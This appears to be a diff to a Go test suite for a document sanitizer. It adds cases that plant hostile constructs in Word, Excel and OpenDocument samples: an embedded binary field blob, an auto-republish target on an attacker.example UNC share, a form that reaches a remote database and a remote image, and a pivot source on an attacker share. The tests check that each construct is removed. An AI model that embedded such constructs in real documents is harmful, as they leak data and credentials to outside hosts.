@@ -220,5 +220,45 @@ func elementCases() []hostileCase {
 			gone:  []string{"onEdit", "Macro1", "attacker.example", "rowMacro", "Auto_Open"},
 			text:  []string{"Rent", "1820"},
 		},
+		{
+			// Word hands w:fldData to the field's own binary parser; the field and its
+			// result stay.
+			name: "field-data.docx", base: "ooxml/report.docx",
+			edits: []edit{
+				replace(docMain, docEnd, docEnd+`<w:r><w:fldChar w:fldCharType="begin"><w:fldData xml:space="preserve">TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=</w:fldData></w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>FieldShown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedUnknown},
+			gone:  []string{"fldData", "TVqQAAMAAAAEAAAA"},
+			text:  []string{"End of the sample report"},
+		},
+		{
+			name: "web-publish.xlsx", base: "ooxml/ledger.xlsx",
+			edits: []edit{
+				replace(wbMain, "<extLst>", `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects><extLst>`),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
+			gone:  []string{"webPublishObject", "attacker.example", "autoRepublish"},
+			text:  []string{"Rent", "1820"},
+		},
+		{
+			// A form that connects to a database and an image control that loads a
+			// remote picture when the form shows; the form and its controls stay.
+			name: "form-sources.odt", base: "odf/report.odt",
+			edits: []edit{
+				replace("content.xml", "<office:text>", `<office:text><office:forms><form:form form:name="F" form:datasource="sdbc:mysql:jdbc:attacker.example:3306/db" form:command="t" form:command-type="table"><form:image-frame form:id="f" form:name="f" form:image-data="https://attacker.example/k.png"/></form:form></office:forms>`),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
+			gone:  []string{"attacker.example", "form:datasource", "form:image-data"},
+			text:  []string{"End of the sample report"},
+		},
+		{
+			name: "pilot-service.ods", base: "odf/ledger.ods",
+			edits: []edit{
+				replace("content.xml", "</office:spreadsheet>", `<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="Ledger.E5:Ledger.F6"><table:source-service table:name="com.sun.star.x" table:source-name="\\attacker.example\s" table:object-name="o" table:user-name="u" table:password="p"/></table:data-pilot-table></table:data-pilot-tables></office:spreadsheet>`),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
+			gone:  []string{"source-service", "attacker.example", "com.sun.star.x"},
+			text:  []string{"Rent", "1820"},
+		},
 	}
 }
